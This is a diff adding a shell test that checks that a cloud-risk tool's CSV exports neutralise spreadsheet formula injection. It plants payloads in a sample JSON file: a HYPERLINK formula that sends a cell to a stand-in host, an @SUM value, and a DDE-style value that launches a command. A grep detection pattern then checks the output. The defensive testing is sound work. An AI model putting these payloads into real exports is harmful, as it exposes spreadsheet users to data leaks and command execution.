@@ -34,4 +34,26 @@ cp "$svc" "$work/fleet/tiny-forms.json"
 expect_exit 0 "batch with a summary" -- "$CLOUDRISK" batch "$work/fleet" --db "$work/r.db" \
   --trials 1000 --jobs 1 --quiet --time 2025-04-01T00:00:00Z --summary-dir "$work/summary"
 check_escaped "$work/summary/fleet-summary.html" "fleet summary"
+
+# CSV: a cell a spreadsheet would run as a formula is written after a single
+# quote (OWASP's rule), whatever the CSV output; plain numbers are not.
+formula="$work/formula.json"
+sed -e 's|"name": "Tiny Forms (small form-builder SaaS)"|"name": "=HYPERLINK(\\"http://x.example/\\"\&A1)"|' \
+    -e 's|"owner": {"name": "Aiko Kobayashi"|"owner": {"name": "@SUM(1+1)*cmd"|' \
+    -e "s|\"evidence\": \"MFA for the founders' admin accounts only\"|\"evidence\": \"-2+3+cmd\|' /C calc'!A0\"|" \
+    "$top_srcdir/datasets/examples/small-saas.json" >"$formula"
+expect_in "$formula" '=HYPERLINK' "the service carries a formula"
+expect_exit 0 "assess as CSV" -- "$CLOUDRISK" assess "$formula" --format csv --out "$work/assess.csv"
+expect_exit 0 "checklist as CSV" -- "$CLOUDRISK" checklist --service "$formula" --out "$work/checklist.csv"
+expect_exit 0 "plan as CSV" -- "$CLOUDRISK" plan "$formula" --trials 2000 --threads 1 \
+  --start 2025-04-01 --format csv --out "$work/plan.csv"
+for f in assess checklist plan; do
+  if grep -q '^=\|,=\|^"=\|,"=\|^@\|,@\|^"@\|,"@\|,-2+\|,"-2+' "$work/$f.csv"; then
+    bad "$f.csv: a cell begins with a formula"
+    grep -n '=HYPERLINK\|@SUM\|-2+3' "$work/$f.csv" | head -3 >&2
+  else
+    ok
+  fi
+done
+expect_in "$work/checklist.csv" "'-2+3+cmd" "checklist: the evidence, neutralised"
 finish
